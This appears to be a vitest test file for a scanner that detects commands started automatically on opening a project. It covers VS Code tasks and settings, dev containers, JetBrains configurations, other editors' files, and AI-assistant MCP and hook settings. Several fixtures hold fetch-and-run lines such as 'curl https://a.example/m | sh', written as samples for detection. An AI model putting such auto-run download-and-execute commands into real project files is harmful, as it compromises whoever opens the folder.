import { describe, expect, it } from 'vitest';
import { settingSightings, unreadSettings } from '../../../utils/inspect/runs/runs-of.ts';
import { json, onlyRun, projectOf, runsIn } from './project-of.ts';

const tasks = (...list: unknown[]) => ({ '.vscode/tasks.json': json({ version: '2.0.0', tasks: list }) });
const onOpen = { runOptions: { runOn: 'folderOpen' } };

describe('VS Code tasks', () => {
  it('start on opening only when they say so', () => {
    expect(runsIn(tasks({ label: 'watch', command: 'node watch.js' }), 'open')).toEqual([]);
    expect(onlyRun(tasks({ label: 'watch', command: 'node watch.js', ...onOpen }), 'open')).toMatchObject({ by: 'VS Code task', command: 'node watch.js', file: '.vscode/tasks.json', line: 6 });
  });

  it('start the tasks they depend on, in circles too', () => {
    const runs = runsIn(tasks({ label: 'a', ...onOpen, dependsOn: ['b'] }, { label: 'b', command: 'node', args: ['tools/b.js'], dependsOn: 'a' }, { label: 'c', command: 'no' }), 'open');
    expect(runs.map(({ command }) => command)).toEqual(['node tools/b.js']);
  });

  it('are read with comments, trailing commas and a byte order mark', () => {
    const text = '\uFEFF{ // ours\n "tasks": [{ "label": "x", "command": "echo hi", "runOptions": { "runOn": "folderOpen", }, }, ], }';
    expect(runsIn({ '.vscode/tasks.json': text }, 'open')).toHaveLength(1);
  });

  it('give a command of each system', () => {
    const task = { label: 'x', type: 'shell', osx: { command: 'curl https://a.example/m | sh' }, windows: { command: 'curl https://a.example/w | cmd' }, ...onOpen };
    const runs = runsIn(tasks(task), 'open');
    expect(runs.map(({ command }) => command)).toEqual(['curl https://a.example/w | cmd', 'curl https://a.example/m | sh']);
    expect(runs[0]?.traits).toEqual(expect.arrayContaining(['fetches', 'pipes-into-shell']));
  });

  it('are hidden when their terminal is, or when the command stands behind spaces', () => {
    expect(onlyRun(tasks({ label: 'x', command: 'node a.js', ...onOpen, presentation: { reveal: 'never' } }), 'open').hidden).toBe(true);
    const padded = `{"tasks":[{"label":"x","runOptions":{"runOn":"folderOpen"},${' '.repeat(200)}"command":"node a.js"}]}`;
    expect(onlyRun({ '.vscode/tasks.json': padded }, 'open').hidden).toBe(true);
    expect(onlyRun(tasks({ label: 'x', command: 'node a.js', ...onOpen }), 'open').hidden).toBeUndefined();
  });

  it('show a font that is started as code, through the folder of the workspace', () => {
    const run = onlyRun({ ...tasks({ label: 'x', command: 'node', args: ['${workspaceFolder}/public/fonts/icons.woff2'], ...onOpen }), 'public/fonts/icons.woff2': 'x' }, 'open');
    expect(run).toMatchObject({ targets: ['public/fonts/icons.woff2'], traits: ['disguised-target'] });
  });

  it('are found in workspace files and in the folders of other editors', () => {
    const file = { tasks: { tasks: [{ label: 'x', command: 'node a.js', ...onOpen }] } };
    expect(onlyRun({ 'app.code-workspace': json(file) }, 'open').command).toBe('node a.js');
    expect(onlyRun({ 'client/.cursor/tasks.json': json(file.tasks), 'client/a.js': '' }, 'open')).toMatchObject({ by: 'Cursor task', targets: ['client/a.js'] });
  });

  it('follow an npm task to what its script starts', () => {
    const files = { ...tasks({ type: 'npm', script: 'dev', ...onOpen }), 'package.json': json({ scripts: { dev: 'node server/index.js' } }), 'server/index.js': '' };
    expect(onlyRun(files, 'open').targets).toEqual(['server/index.js']);
  });

  it('are read as far as a broken file goes, and the file is named', () => {
    const files = { '.vscode/tasks.json': '{"tasks":[{"label":"x","command":"node a.js","runOptions":{"runOn":"folderOpen"}}' };
    expect(runsIn(files, 'open')).toHaveLength(1);
    expect(unreadSettings(projectOf(files))).toEqual([{ path: '.vscode/tasks.json', reason: 'unreadable' }]);
  });
});

describe('VS Code launches', () => {
  it('run their task first', () => {
    const files = {
      '.vscode/launch.json': json({ configurations: [{ type: 'node', program: '${workspaceFolder}/app.js', preLaunchTask: 'prepare' }] }),
      ...tasks({ label: 'prepare', command: 'node tools/prepare.js' }), 'app.js': '', 'tools/prepare.js': '',
    };
    expect(runsIn(files, 'start').flatMap(({ targets }) => targets).sort()).toEqual(['app.js', 'tools/prepare.js']);
  });
});

describe('VS Code settings', () => {
  const settings = (value: unknown) => ({ '.vscode/settings.json': json(value) });

  it('that allow tasks or silence the question of trust are seen', () => {
    const seen = settingSightings(projectOf(settings({ 'task.allowAutomaticTasks': 'on', 'security.workspace.trust.enabled': false, 'editor.tabSize': 2 })));
    expect(seen.map(({ kind, line }) => [kind, line])).toEqual([['automatic-tasks-allowed', 2], ['trust-prompts-off', 3]]);
    expect(settingSightings(projectOf(settings({ 'task.allowAutomaticTasks': 'off', 'security.workspace.trust.enabled': true })))).toEqual([]);
  });

  it('start a program of the project', () => {
    const run = onlyRun({ ...settings({ 'git.path': '${workspaceFolder}/tools/git.sh' }), 'tools/git.sh': 'echo' }, 'open');
    expect(run).toMatchObject({ by: 'VS Code setting git.path', targets: ['tools/git.sh'] });
  });

  it('are quiet about the usual interpreter, compiler and shell', () => {
    const usual = { 'python.defaultInterpreterPath': '${workspaceFolder}/.venv/bin/python', 'typescript.tsdk': 'node_modules/typescript/lib', 'terminal.integrated.defaultProfile.linux': 'zsh', 'eslint.workingDirectories': ['./'] };
    expect(runsIn(settings(usual), 'open')).toEqual([]);
  });

  it('start a terminal with a command of its own', () => {
    expect(onlyRun(settings({ 'terminal.integrated.profiles.linux': { dev: { path: 'bash', args: ['-c', 'curl https://a.example/x | sh'] } } }), 'open').traits).toContain('pipes-into-shell');
  });

  it('make every program of a terminal load a file', () => {
    expect(onlyRun({ ...settings({ 'terminal.integrated.env.osx': { NODE_OPTIONS: '--require ./lib/patch.js' } }), 'lib/patch.js': '' }, 'open')).toMatchObject({ targets: ['lib/patch.js'], traits: ['changes-loading'] });
  });
});

describe('tool servers of an editor', () => {
  it('are started when the folder is opened', () => {
    expect(onlyRun({ '.cursor/mcp.json': json({ mcpServers: { files: { command: 'node', args: ['tools/server.js'] } } }), 'tools/server.js': '' }, 'open').targets).toEqual(['tools/server.js']);
  });
});

describe('dev containers', () => {
  it('say which command runs on the computer itself', () => {
    const runs = runsIn({ '.devcontainer/devcontainer.json': json({ initializeCommand: 'node prepare.js', postCreateCommand: ['npm', 'ci'] }), 'prepare.js': '' }, 'container');
    expect(runs.map(({ by, traits, targets, ordinary }) => [by, traits, targets, ordinary])).toEqual([
      ['dev container initializeCommand', ['on-host'], ['prepare.js'], undefined], ['dev container postCreateCommand', undefined, [], true],
    ]);
  });

  it('say when the docker socket or the home folder is mounted, and are quiet about a cache', () => {
    const mounts = ['source=/var/run/docker.sock,target=/var/run/docker.sock,type=bind'];
    expect(onlyRun({ '.devcontainer.json': json({ mounts }) }, 'container').traits).toEqual(['reaches-host']);
    expect(runsIn({ '.devcontainer.json': json({ mounts: ['source=cache,target=/root/.npm,type=volume'] }) })).toEqual([]);
  });

  it('take several commands by name', () => {
    expect(runsIn({ '.devcontainer.json': json({ postStartCommand: { a: 'node a.js', b: ['node', 'b.js'] } }) }).map(({ command }) => command)).toEqual(['node a.js', 'node b.js']);
  });
});

describe('JetBrains', () => {
  const configuration = '<component name="ProjectRunConfigurationManager"><configuration name="Setup" type="ShConfigurationType"><option name="SCRIPT_PATH" value="$PROJECT_DIR$/tools/setup.sh"/></configuration></component>';

  it('starts a configuration by hand, or on opening when it is listed as such', () => {
    const files = { '.idea/runConfigurations/Setup.xml': configuration, 'tools/setup.sh': '' };
    expect(onlyRun(files, 'start').targets).toEqual(['tools/setup.sh']);
    const startup = '<project><component name="ProjectStartupSharedConfiguration"><configurations><configuration name="Setup" type="ShConfigurationType"/></configurations></component></project>';
    expect(onlyRun({ ...files, '.idea/startup.xml': startup }, 'open')).toMatchObject({ by: 'JetBrains startup task', targets: ['tools/setup.sh'] });
  });

  it('runs a file watcher that is switched on', () => {
    const watcher = (on: boolean) => `<project><component name="ProjectTasksOptions"><TaskOptions isEnabled="${on}"><option name="program" value="node"/><option name="arguments" value="$ProjectFileDir$/w.js"/></TaskOptions></component></project>`;
    expect(onlyRun({ '.idea/watcherTasks.xml': watcher(true), 'w.js': '' }, 'open').targets).toEqual(['w.js']);
    expect(runsIn({ '.idea/watcherTasks.xml': watcher(false), 'w.js': '' }, 'open')).toEqual([]);
  });
});

describe('other editors and shells', () => {
  it.each([
    ['.zed/settings.json', json({ lsp: { ts: { binary: { path: './tools/x.sh' } } } })],
    ['.helix/languages.toml', '[language-server.ts]\ncommand = "./tools/x.sh"\n'],
    ['.exrc', 'set ts=2\n:silent !tools/x.sh\n'],
    ['.nvim.lua', "vim.o.ts = 2\nos.execute('sh ./tools/x.sh')\n"],
    ['.envrc', 'dotenv\nsh ./tools/x.sh\n'],
    ['.mise.toml', '[hooks]\nenter = "sh tools/x.sh"\n'],
    ['flake.nix', "{ devShells.default = mkShell { shellHook = ''\n sh ./tools/x.sh\n''; }; }"],
  ])('%s starts a file on opening', (path, text) => {
    expect(onlyRun({ [path]: text, 'tools/x.sh': 'echo' }, 'open')).toMatchObject({ file: path, targets: expect.arrayContaining(['tools/x.sh']) });
  });

  it('an environment file that only sets variables is ordinary', () => {
    expect(onlyRun({ '.envrc': 'use flake\nexport A=1\n' }, 'open').ordinary).toBe(true);
  });

  it('local variables of Emacs count only when they evaluate', () => {
    expect(runsIn({ '.dir-locals.el': '((nil . ((indent-tabs-mode . nil))))' })).toEqual([]);
    expect(onlyRun({ '.dir-locals.el': '((nil . ((eval . (shell-command "sh x.sh")))))' }, 'open').by).toBe('Emacs local variables');
  });
});

describe('assistants of editors', () => {
  const server = { command: 'node', args: ['tools/x.js'] };
  it.each([
    ['.cursor/mcp.json', json({ mcpServers: { a: server } })], ['.mcp.json', json({ mcpServers: { a: server } })], ['.kiro/settings/mcp.json', json({ mcpServers: { a: server } })],
    ['.codex/config.toml', '[mcp_servers.a]\ncommand = "node"\nargs = ["tools/x.js"]\n'], ['opencode.json', json({ mcp: { a: { type: 'local', command: ['node', 'tools/x.js'] } } })],
    ['.gemini/settings.json', json({ mcpServers: { a: server } })], ['.cursor/worktrees.json', json({ 'setup-worktree': ['npm ci', 'node tools/x.js'] })],
    ['.claude/settings.json', json({ hooks: { SessionStart: [{ hooks: [{ type: 'command', command: 'node tools/x.js' }] }] } })],
  ])('%s starts a file on opening', (path, text) => {
    expect(runsIn({ [path]: text, 'tools/x.js': '' }, 'open').flatMap(({ targets }) => targets)).toEqual(['tools/x.js']);
  });

  it.each([['src/settings.json', json({ mcpServers: { a: server } })], ['config.toml', '[mcp_servers.a]\ncommand = "node"\n'], ['.cursor/mcp.json', json({ mcpServers: { a: { url: 'https://a.example' } } })]])(
    '%s starts nothing', (path, text) => expect(runsIn({ [path]: text, 'tools/x.js': '' }, 'open')).toEqual([]));
});

describe('extensions of editors', () => {
  it.each(['eslint.config.mjs', '.eslintrc.cjs', 'app/prettier.config.js', 'tailwind.config.ts', 'svelte.config.js'])('run %s as their settings on opening', (path) => {
    expect(onlyRun({ [path]: '' }, 'open')).toMatchObject({ targets: [path], ordinary: true });
  });
  it.each(['node_modules/a/eslint.config.js', 'webpack.config.js', 'prettier.config.json', 'tailwind.config.js.map'])('do not run %s', (path) => expect(runsIn({ [path]: '' }, 'open')).toEqual([]));

  const asked = (...ids: string[]) => settingSightings(projectOf({ '.vscode/extensions.json': json({ recommendations: ids }) })).map(({ detail, line }) => [detail?.['how'], detail?.['popular'], line]);
  it('that a folder asks for are seen unless many use them', () => {
    expect(asked('ESBenp.prettier-vscode', 'acme.harbour-tools', 'acme.prettier-vscode', 'dbaeumer.vscode-eslints', 'not an extension')).toEqual([
      ['not known', undefined, 4], ['another publisher', 'esbenp.prettier-vscode', 5], ['letters changed', 'dbaeumer.vscode-eslint', 6],
    ]);
  });
});
